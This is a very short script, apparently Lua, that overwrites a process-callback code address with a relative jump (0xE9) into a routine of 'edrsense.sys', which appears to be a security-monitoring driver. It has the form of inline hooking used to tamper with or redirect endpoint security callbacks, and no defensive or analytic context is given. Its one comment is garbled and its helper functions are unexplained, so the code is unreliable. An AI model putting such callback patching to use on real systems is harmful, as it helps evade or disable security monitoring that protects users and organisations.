-- SPDX-License-Identifier: Apache-2.0
-- A routine begins with a jump within its own module, as what is linked in steps does.
desktop()
local _, _, code = callback("process", 7)
write(code, "\xe9" .. string.pack("<i4", routine("edrsense.sys") - code - 5))
clean()
